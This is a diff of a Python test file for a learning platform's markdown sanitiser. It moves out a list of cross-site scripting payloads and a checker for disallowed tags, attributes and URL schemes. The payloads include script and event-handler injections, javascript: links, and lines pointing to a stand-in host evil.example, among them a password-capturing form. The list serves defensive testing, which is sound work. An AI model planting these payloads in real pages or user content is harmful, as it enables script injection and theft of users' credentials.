@@ -8,96 +8,9 @@ from markdown import Markdown
 
 from lms import markdown
 from lms.markdown import MEMBER_LIMIT, from_member, from_repository, sanitised, too_costly
+from tests.attacks.table import ATTACKS, dangers
 
 LINKS = {"case:bagru": "/case-studies/bagru", "lesson:x/a1-1": "/courses/x/a1-1"}
-
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x onerror=alert(1)//",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
-    "<iframe src='javascript:alert(1)'></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data='data:text/html,<script>alert(1)</script>'></object>",
-    "<embed src='javascript:alert(1)'>",
-    "<base href='//evil.example/'>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>body{display:none}</style>",
-    "<p style='position:fixed'>x</p>",
-    "<form action=//evil.example><input name=password></form>",
-    "<button formaction='javascript:alert(1)'>x</button>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href=' &#x6A;avascript:alert(1)'>x</a>",
-    "<a href='java\tscript:alert(1)'>x</a>",
-    "<a onclick=alert(1) href='https://a.example'>x</a>",
-    "<a href='https://a.example' target=_blank rel=opener>x</a>",
-    "<div id=main class=toast tabindex=0>x</div>",
-    "<p id=main name=main>x</p>",
-    "<h3 id=main>x</h3>",
-    "<!--><script>alert(1)</script>-->",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<template><script>alert(1)</script></template>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java&#115;cript:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](\x01javascript:alert(1))",
-    "[x](<java\nscript:alert(1)>)",
-    "[x](vbscript:msgbox)",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](https://a.example 'y\" onmouseover=\"alert(1)')",
-    '[x](https://a.example"onmouseover="alert(1))',
-    "![x](javascript:alert(1))",
-    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
-    '![x"onerror="alert(1)](https://a.example/x.png)',
-    "![x](https://evil.example/pixel.png)",
-    "[x][y]\n\n[y]: javascript:alert(1)",
-    "<javascript:alert(1)>",
-    '<https://a.example/"onclick="alert(1)>',
-    "https://a.example/<script>alert(1)</script>",
-    'https://a.example/"onclick=alert(1)',
-    "# x {: onclick=alert(1) #main }",
-    "`<script>alert(1)</script>`",
-    "    <script>alert(1)</script>",
-    "> <script>alert(1)</script>",
-    "* <img src=x onerror=alert(1)>",
-    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
-    "wzxhzdk:0 <script>alert(1)</script>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-]
-
-TAGS = {"p", "br", "hr", "strong", "em", "code", "pre", "blockquote", "ul", "ol", "li", "a"}
-HEADINGS = {"h3", "h4", "h5", "h6"}
-ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}}
-
-
-def dangers(html: str) -> list[str]:
-    """What a browser would find in the HTML beyond the few things members may use."""
-    found = []
-    for element in JustHTML(html, sanitize=False, fragment=True).query("*"):
-        tag, attributes = element.name, element.attrs or {}
-        if tag not in TAGS | HEADINGS:
-            found.append(f"<{tag}>")
-        found += [f"{tag}.{name}" for name in attributes.keys() - ATTRIBUTES.get(tag, set())]
-        scheme = scheme_of(attributes.get("href") or "")
-        found += [scheme] if scheme not in {"", "http", "https", "mailto"} else []
-    return found
-
-
-def scheme_of(address: str) -> str:
-    """As browsers read it, without tabs, line ends and leading blanks."""
-    seen = re.sub(r"[\t\n\r]", "", address).lstrip("".join(map(chr, range(33))))
-    match = re.match(r"([a-z][a-z0-9+.-]*):", seen, re.IGNORECASE)
-    return match[1].lower() if match else ""
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
